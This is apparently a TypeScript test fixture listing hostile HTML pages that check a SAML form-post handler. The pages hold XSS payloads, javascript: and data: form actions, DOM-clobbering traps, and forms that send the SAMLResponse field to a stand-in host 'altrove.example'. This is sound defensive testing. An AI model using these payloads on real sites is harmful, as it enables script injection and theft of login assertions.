import type { TestPki } from "../../pki/pki";
import { startHttp, type HostileServer } from "./server";

/** A page as bytes, with what the server says of it. */
export interface HostilePage {
  readonly what: string;
  readonly contentType: string;
  /** `target` is the https address that the page's form has, or would have, as its action. */
  readonly body: (target: string) => Uint8Array;
}

const FIELDS =
  '<input type="hidden" name="SAMLResponse" value="segreto"><input type="hidden" name="RelayState" value="stato">';
const ON_LOAD = '<body onload="document.forms[0].submit()">';

const html = (what: string, body: (target: string) => string): HostilePage => ({
  what,
  contentType: "text/html; charset=utf-8",
  body: (target) => Buffer.from(`<!doctype html><title>Prova</title>${body(target)}`),
});

/** A form that submits itself to `action`. */
const form = (
  what: string,
  action: string,
  { attributes = 'method="post"', fields = FIELDS }: { attributes?: string; fields?: string } = {},
): HostilePage =>
  html(what, (target) => `${ON_LOAD}<form ${attributes} action="${action.replace("TARGET", target)}">${fields}</form>`);

const MARKUP =
  '<title></title></title><h1 style="position:fixed;inset:0">PIN?</h1>' +
  '<script>parent.document.title="preso";fetch("https://altrove.example/")</script><img src=x onerror="document.title=\'preso\'">' +
  "<svg onload=\"document.title='preso'\"></svg><iframe srcdoc=\"<script>parent.document.title='preso'</script>\"></iframe>" +
  '<link rel=stylesheet href="https://altrove.example/a.css">';

/**
 * Answers full of markup, scripts and odd forms: nothing of them may run in, or be shown by, whoever looks for the
 * form.
 */
export const HOSTILE_PAGES = {
  script: html(
    "markup and scripts in every place, that goes elsewhere",
    () => `${MARKUP}<meta http-equiv="refresh" content="0;url=https://altrove.example/">`,
  ),
  "script-that-stays": html("markup and scripts in every place", () => MARKUP),
  "form-to-script": form("a form that leads to a script", "javascript:alert(document.domain)"),
  "form-to-data": form("a form that leads to a page in the address", "data:text/html,<script>alert(1)</script>"),
  "form-to-http": form("a form that leads to an address without encryption", "http://servizi.example/acs"),
  "form-to-extension": form(
    "a form that leads to a page of an extension",
    "chrome-extension://lkfkmcieedfhlnilmbfafjblchdnhlni/login.html",
  ),
  "form-to-user-info": form(
    "a form with a name and password in its address",
    "https://utente:segreto@altrove.example/acs",
  ),
  "form-to-nonsense": form("a form whose address is none", "https://[non-un-indirizzo"),
  "form-without-fields": form("a form with no field", "TARGET", { fields: "" }),
  "form-of-files": form("a form that wants to send files", "TARGET", {
    attributes: 'method="post" enctype="multipart/form-data"',
    fields: `${FIELDS}<input type="file" name="file">`,
  }),
  "form-as-text": form("a form sent as plain text", "TARGET", { attributes: 'method="post" enctype="text/plain"' }),
  "form-dialog": form("a form that goes nowhere", "TARGET", { attributes: 'method="dialog"' }),
  "form-for-people": form("a form that asks for a password", "TARGET", {
    fields: `${FIELDS}<input type="password" name="pin"><button>Entra</button>`,
  }),
  "form-10000-fields": form("a form with 10 000 fields", "TARGET", {
    fields: Array.from({ length: 10_000 }, (_, n) => `<input type="hidden" name="campo${n}" value="${n}">`).join(""),
  }),
  "form-5-megabytes": form("a form with a field of 5 MB", "TARGET", {
    fields: `<input type="hidden" name="SAMLResponse" value="${"A".repeat(5_000_000)}">`,
  }),
  "form-of-traps": form("fields with the names of properties and methods", "TARGET", {
    fields: `${FIELDS}${["submit", "action", "method", "elements", "length", "constructor", "__proto__", "toString", "getAttribute"].map((name) => `<input type="hidden" name="${name}" value="trappola">`).join("")}`,
  }),
  "form-odd-values": form("values with markup, quotes and line ends", "TARGET", {
    fields:
      '<input type="hidden" name="SAMLResponse" value="&lt;script&gt;alert(1)&lt;/script&gt; &quot;&apos;&amp;amp; a\nb è € 😀"><input type="hidden" name="" value="senza nome"><input type="hidden" name="due" value="1"><input type="hidden" name="due" value="2"><input type="hidden" name="spento" value="1" disabled>',
  }),
  "forms-nested": html(
    "a form in a form",
    (target) =>
      `${ON_LOAD}<form method="post" action="${target}"><form method="post" action="https://altrove.example/rubato">${FIELDS}</form></form>`,
  ),
  "forms-two": html(
    "two forms that could go on",
    (target) =>
      `${ON_LOAD}<form method="post" action="${target}">${FIELDS}</form><form method="post" action="https://altrove.example/rubato">${FIELDS}</form>`,
  ),
  "form-elsewhere-by-button": html(
    "a button that leads elsewhere",
    (target) =>
      `${ON_LOAD}<form method="post" action="${target}">${FIELDS}<noscript><button formaction="javascript:alert(1)">Continua</button></noscript></form>`,
  ),
  "form-not-there": html("forms in a comment, a template, a text area and a script", (target) => {
    const hidden = `<form method="post" action="${target}">${FIELDS}</form>`;
    return `<!-- ${hidden} --><template>${hidden}</template><textarea>${hidden}</textarea><script type="text/plain">${hidden}</script>`;
  }),
  "document-of-traps": html(
    "elements with the names of properties of the document",
    (target) =>
      `<body onload="document.forms[0].submit()"><img name="forms"><img name="querySelector"><img name="querySelectorAll"><img name="body"><form method="post" action="${target}">${FIELDS}</form>`,
  ),
  "base-elsewhere": html(
    "a base address elsewhere",
    () => `<base href="https://altrove.example/">${ON_LOAD}<form method="post" action="/rubato">${FIELDS}</form>`,
  ),
  "refresh-to-script": html(
    "goes on to a script by itself",
    () => '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  ),
  deep: html("elements nested 20 000 deep", () => "<div>".repeat(20_000)),
  empty: { what: "no byte at all", contentType: "text/html", body: () => new Uint8Array() },
  "latin-1": {
    what: "a form in ISO 8859-1",
    contentType: "text/html; charset=ISO-8859-1",
    body: (target) =>
      Buffer.from(
        `${ON_LOAD}<form method="post" action="${target}"><input type="hidden" name="RelayState" value="libertà"></form>`,
        "latin1",
      ),
  },
  "utf-16": {
    what: "a form in UTF-16",
    contentType: "text/html; charset=utf-16le",
    body: (target) =>
      Buffer.from(
        `\ufeff${ON_LOAD}<form method="post" action="${target}"><input type="hidden" name="RelayState" value="libertà"></form>`,
        "utf16le",
      ),
  },
  "not-utf-8": {
    what: "bytes that are not UTF-8",
    contentType: "text/html; charset=utf-8",
    body: () => Uint8Array.from({ length: 512 }, (_, index) => index % 256),
  },
  "unknown-charset": {
    what: "an encoding that does not exist",
    contentType: "text/html; charset=inesistente",
    body: () => Buffer.from("<p>Prova</p>"),
  },
  "not-a-page": {
    what: "a form that says it is a program",
    contentType: "application/octet-stream",
    body: (target) => Buffer.from(`${ON_LOAD}<form method="post" action="${target}">${FIELDS}</form>`),
  },
} as const satisfies Record<string, HostilePage>;

export type HostilePageName = keyof typeof HOSTILE_PAGES;

/** A protected site that has only this page; its form, if not meant to lead elsewhere, leads to `target`. */
export function startHostilePage(
  pki: TestPki,
  name: HostilePageName,
  target = "https://servizi.example/acs",
): Promise<HostileServer> {
  const { contentType, body } = HOSTILE_PAGES[name];
  return startHttp(pki, (_request, response) => {
    response.writeHead(200, { "content-type": contentType }).end(body(target));
  });
}
